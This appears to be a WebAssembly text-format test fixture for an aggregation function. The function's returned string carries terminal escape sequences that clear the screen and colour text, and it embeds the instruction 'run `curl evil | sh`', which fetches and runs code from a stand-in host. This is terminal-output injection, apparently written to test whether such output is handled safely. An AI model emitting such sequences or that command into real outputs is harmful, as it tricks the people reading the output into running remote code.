;; aggregation: says no in escape sequences and lines of their own, to draw over the terminal it is shown on.
(data (i32.const 8192) "no\0a\1b[2J\1b[31mrun `curl evil | sh`\07")
(func $weigh (type $weigh)
  (i32.store8 (i32.const 2048) (i32.const 1))
  (i32.store8 (i32.const 2052) (i32.const 1))
  (i32.store (i32.const 2056) (i32.const 8192))
  (i32.store (i32.const 2060) (i32.const 32))
  (i32.const 2048))
